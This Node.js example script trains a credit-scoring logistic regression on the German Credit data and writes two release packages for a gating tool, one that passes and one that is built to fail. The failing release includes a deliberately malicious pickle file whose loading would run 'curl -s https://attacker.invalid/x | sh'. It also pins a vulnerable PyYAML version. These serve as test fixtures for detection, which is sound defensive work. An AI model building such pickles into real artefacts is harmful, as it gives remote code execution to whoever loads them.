#!/usr/bin/env node
// Trains the example credit-scoring model on the German Credit data (UCI Statlog, CC BY 4.0) and
// writes two releases for `arbiter gate`: 1.1.0, which passes, and 1.2.0, which fails. Deterministic:
// the same data gives the same weights, files and digests. Run from the repository root after
// `npm run build` (it reads the data with arbiter/monitor):
//   node examples/releases/credit-scoring/train.mjs [path/to/credit-g.arff]
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArff } from 'arbiter/monitor';

const here = dirname(fileURLToPath(import.meta.url));
const arff = process.argv[2] ?? join(here, '../../../../shared/data/credit-g.arff');

/** ARFF attributes (numeric or not) and rows, read with Arbiter's own reader. */
function readArff(text) {
  const { columns, rows } = parseArff(text);
  return { attributes: columns.map((c) => ({ name: c.name, numeric: c.type === 'numeric' })), rows };
}

function encoder(attributes, rows, features) {
  const columns = [];
  for (const name of features) {
    const attribute = attributes.find((a) => a.name === name);
    if (attribute.numeric) {
      const values = rows.map((r) => r[name]);
      const mean = values.reduce((s, v) => s + v, 0) / values.length;
      const sd = Math.sqrt(values.reduce((s, v) => s + (v - mean) ** 2, 0) / values.length) || 1;
      columns.push({ name, spec: { feature: name, mean, sd }, encode: (r) => (r[name] - mean) / sd });
    } else {
      for (const level of [...new Set(rows.map((r) => r[name]))].sort())
        columns.push({
          name: `${name}=${level}`,
          spec: { feature: name, level },
          encode: (r) => (r[name] === level ? 1 : 0),
        });
    }
  }
  return {
    names: columns.map((c) => c.name),
    // How to turn a row into the weight vector's inputs, so the model can be used without this script.
    spec: columns.map((c) => c.spec),
    encode: (row) => columns.map((c) => c.encode(row)),
  };
}

const sigmoid = (z) => 1 / (1 + Math.exp(-z));

/** Logistic regression by full-batch gradient descent with L2 regularisation. */
function train(x, y, { epochs = 800, rate = 0.3, l2 = 0.001 } = {}) {
  const w = new Array(x[0].length).fill(0);
  let b = 0;
  for (let epoch = 0; epoch < epochs; epoch++) {
    const gw = new Array(w.length).fill(0);
    let gb = 0;
    for (let i = 0; i < x.length; i++) {
      const error = sigmoid(x[i].reduce((s, v, j) => s + v * w[j], b)) - y[i];
      for (let j = 0; j < w.length; j++) gw[j] += error * x[i][j];
      gb += error;
    }
    for (let j = 0; j < w.length; j++) w[j] -= rate * (gw[j] / x.length + l2 * w[j]);
    b -= (rate * gb) / x.length;
  }
  return { w, b };
}

const round = (v) => Math.round(v * 10_000) / 10_000;

function rocAuc(scores, labels) {
  const order = scores.map((s, i) => [s, labels[i]]).sort((a, b) => a[0] - b[0]);
  let rankSum = 0;
  let positives = 0;
  order.forEach(([, label], i) => {
    if (label === 1) {
      rankSum += i + 1;
      positives++;
    }
  });
  const negatives = order.length - positives;
  return (rankSum - (positives * (positives + 1)) / 2) / (positives * negatives);
}

function evaluate(model, x, y, rows) {
  const scores = x.map((xi) => sigmoid(xi.reduce((s, v, j) => s + v * model.w[j], model.b)));
  const predicted = scores.map((s) => (s >= 0.5 ? 1 : 0));
  const accuracy = predicted.filter((p, i) => p === y[i]).length / y.length;
  const group = (test) => {
    const idx = rows.map((r, i) => (test(r) ? i : -1)).filter((i) => i >= 0);
    return {
      accuracy: round(idx.filter((i) => predicted[i] === y[i]).length / idx.length),
      selectionRate: round(idx.filter((i) => predicted[i] === 1).length / idx.length),
      count: idx.length,
    };
  };
  const young = group((r) => r.age < 25);
  const older = group((r) => r.age >= 25);
  return {
    metrics: { accuracy: round(accuracy), rocAuc: round(rocAuc(scores, y)) },
    slices: { 'age<25': young, 'age>=25': older },
    fairness: {
      age: {
        demographicParityRatio: round(
          Math.min(young.selectionRate, older.selectionRate) / Math.max(young.selectionRate, older.selectionRate),
        ),
      },
    },
  };
}

/** safetensors: an 8-byte little-endian header length, a JSON header, then the raw tensors. */
function safetensors(tensors, metadata) {
  const header = { __metadata__: metadata };
  let offset = 0;
  const buffers = [];
  for (const [name, values] of Object.entries(tensors)) {
    const data = Buffer.from(new Float32Array(values).buffer);
    header[name] = { dtype: 'F32', shape: [values.length], data_offsets: [offset, offset + data.length] };
    offset += data.length;
    buffers.push(data);
  }
  let json = JSON.stringify(header);
  json += ' '.repeat((8 - (json.length % 8)) % 8);
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(json.length));
  return Buffer.concat([length, Buffer.from(json), ...buffers]);
}

/**
 * A "preprocessor" pickle whose loading would run `os.system`: the kind of file a compromised
 * training job slips into a release. Protocol 2 opcodes: GLOBAL posix system, a string, TUPLE1, REDUCE.
 */
function maliciousPickle() {
  return Buffer.concat([
    Buffer.from([0x80, 0x02]),
    Buffer.from('cposix\nsystem\n', 'latin1'),
    Buffer.from([0x58]), // BINUNICODE
    (() => {
      const command = Buffer.from('curl -s https://attacker.invalid/x | sh');
      const length = Buffer.alloc(4);
      length.writeUInt32LE(command.length);
      return Buffer.concat([length, command]);
    })(),
    Buffer.from([0x85, 0x52, 0x2e]), // TUPLE1, REDUCE, STOP
  ]);
}

const sha256 = (data) => createHash('sha256').update(data).digest('hex');

const { attributes, rows } = readArff(readFileSync(arff, 'utf8'));
const labels = rows.map((r) => (r.class === 'good' ? 1 : 0));
const testIndex = (i) => i % 4 === 0;
const split = (items) => [items.filter((_, i) => !testIndex(i)), items.filter((_, i) => testIndex(i))];

function build(version, features, extras) {
  const { names, spec, encode } = encoder(attributes, rows, features);
  const x = rows.map(encode);
  const [xTrain, xTest] = split(x);
  const [yTrain, yTest] = split(labels);
  const [, rowsTest] = split(rows);
  const model = train(xTrain, yTrain);
  const evaluation = evaluate(model, xTest, yTest, rowsTest);
  const dir = join(here, version);
  mkdirSync(join(dir, 'model'), { recursive: true });
  const weights = safetensors(
    { weights: model.w, bias: [model.b] },
    { features: names.join('|'), encoder: JSON.stringify(spec), algorithm: 'logistic-regression', version },
  );
  writeFileSync(join(dir, 'model', 'model.safetensors'), weights);
  const files = [{ path: 'model/model.safetensors', data: weights, framework: 'arbiter-logreg' }];
  if (extras.pickle) {
    const pickle = maliciousPickle();
    writeFileSync(join(dir, 'model', 'preprocess.pkl'), pickle);
    files.push({ path: 'model/preprocess.pkl', data: pickle, framework: 'scikit-learn' });
  }
  writeFileSync(join(dir, 'requirements.txt'), `${extras.requirements.join('\n')}\n`);
  const yaml = [
    '# Generated by examples/releases/credit-scoring/train.mjs from the German Credit data.',
    'apiVersion: arbiter/v1',
    'kind: Release',
    'metadata:',
    `  name: credit-scoring-${version}`,
    `  description: ${extras.description}`,
    'spec:',
    '  system: credit-scoring',
    `  version: ${version}`,
    '  models:',
    ...files.flatMap((f) => [
      `    - path: ${f.path}`,
      `      sha256: ${sha256(f.data)}`,
      `      framework: ${f.framework}`,
      '      license: Apache-2.0',
    ]),
    `  metrics: ${JSON.stringify(evaluation.metrics)}`,
    '  slices:',
    ...Object.entries(evaluation.slices).map(([k, v]) => `    "${k}": ${JSON.stringify(v)}`),
    `  fairness: ${JSON.stringify(evaluation.fairness)}`,
    '  modelCard:',
    '    task: binary classification (good / bad credit risk)',
    '    architectureFamily: logistic regression',
    '    intendedUse: Rank consumer-credit applications for human review; never the sole basis of a decision',
    '    limitations:',
    '      - Trained on 750 applications from 1970s Germany; not representative of current applicants',
    '      - Age is an input; selection rates by age group are monitored',
    '    fairnessAssessments:',
    '      - groupAtRisk: applicants younger than 25',
    '        harms: Lower approval rates',
    '        mitigationStrategy: Four-fifths rule gate on selection rates by age; human review of declines',
    '  datasets:',
    '    - name: german-credit',
    '      url: https://archive.ics.uci.edu/dataset/144/statlog+german+credit+data',
    '      license: CC-BY-4.0',
    '      role: training and evaluation (every fourth row held out)',
    '      description: Statlog German Credit, 1,000 applicants, 20 attributes',
    '  dependencies: [requirements.txt]',
    '  packageLicenses:',
    ...Object.entries(extras.licenses).map(([k, v]) => `    ${k}: ${v}`),
    '  provenance:',
    '    sourceRepository: https://git.example.com/risk/credit-scoring',
    `    commit: ${sha256(version).slice(0, 40)}`,
    '    builder: examples/releases/credit-scoring/train.mjs',
    '',
  ];
  writeFileSync(join(dir, 'release.yaml'), yaml.join('\n'));
  console.log(version, JSON.stringify(evaluation));
}

const allBut = (...excluded) => attributes.map((a) => a.name).filter((n) => n !== 'class' && !excluded.includes(n));

build('1.1.0', allBut('personal_status', 'foreign_worker'), {
  description: 'Passing release, all attributes except sex/marital status and foreign-worker status',
  requirements: ['numpy==1.26.4', 'pyyaml==6.0.1', 'requests==2.31.0'],
  licenses: { numpy: 'BSD-3-Clause', pyyaml: 'MIT', requests: 'Apache-2.0' },
});
build('1.2.0', ['duration', 'credit_amount', 'age', 'purpose', 'housing'], {
  description: 'Failing release, retrained on five attributes, with a pickled preprocessor',
  pickle: true,
  requirements: ['numpy==1.26.4', 'pyyaml==5.3.1', 'requests==2.31.0', 'fuzzywuzzy==0.18.0'],
  licenses: { numpy: 'BSD-3-Clause', pyyaml: 'MIT', requests: 'Apache-2.0', fuzzywuzzy: 'GPL-2.0-only' },
});
